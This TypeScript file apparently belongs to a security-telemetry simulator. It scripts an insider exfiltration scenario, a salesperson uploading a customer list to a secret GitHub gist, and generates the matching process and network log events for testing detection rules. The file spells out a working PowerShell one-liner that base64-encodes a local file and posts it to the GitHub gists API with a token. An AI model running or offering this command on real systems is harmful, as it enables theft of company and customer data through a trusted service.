/** Someone in sales pipes the customer list into a secret gist with PowerShell. */
import { MINUTE, SECOND } from "../clock.ts";
import { readFile, session, startProcess } from "../sensors/endpoint.ts";
import { overTls } from "../sensors/network.ts";
import { server } from "../servers.ts";
import { at, castPerson } from "../world.ts";
import type { Story } from "./index.ts";

export const gistUpload: Story = {
  id: "gist-upload",
  title: "Customer list posted as a gist from a workstation",
  behaviours: ["gist-or-snippet-upload", "stage-then-send"],
  shows: {
    url: ["gist-or-snippet-upload"],
    "sni+flow": ["volume-anomaly"],
    endpoint: ["gist-or-snippet-upload", "stage-then-send"],
  },
  demoDay: 1,
  days: 1,
  tell(world, day, random) {
    const person = castPerson(
      world,
      random,
      (candidate) => candidate.team === "sales" || candidate.team === "hr",
      (candidate) => candidate.workstation.egress === "inspected",
    );
    const host = person.workstation;
    const name = person.account.name;
    const time = at(world, day, 12.6);
    const file = `C:\\Users\\${name}\\Documents\\customers-2026.csv`;
    const shell = startProcess(world, {
      time,
      parent: session(host, person.account, random),
      image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      argv: ["powershell.exe", "-NoLogo"],
      random,
    });
    readFile(world, time + 50 * SECOND, shell, file);
    const command = `$c=[Convert]::ToBase64String([IO.File]::ReadAllBytes('${file}')); Invoke-RestMethod -Method Post -Uri https://api.github.com/gists -Headers @{Authorization='token ghp_${random.alphanumeric(36)}'} -Body (@{public=$false;files=@{'n.txt'=@{content=$c}}}|ConvertTo-Json)`;
    const post = startProcess(world, {
      time: time + MINUTE,
      parent: shell,
      image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      argv: ["powershell.exe", "-NoProfile", "-Command", command],
      random,
    });
    const sent = random.int(3_100_000, 5_600_000);
    overTls(world, {
      time: time + MINUTE + 900,
      host,
      user: name,
      process: post,
      server: server("api.github.com"),
      requests: [{ method: "POST", path: "/gists", status: 201, sent, received: 3_400, type: "application/json" }],
      userAgent: "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.26100.3624",
      random,
    });
    return {
      actor: [person.email, name],
      hosts: [host.name],
      addresses: [host.ip],
      destinations: ["gist.github.com"],
      bytesOut: sent,
    };
  },
};
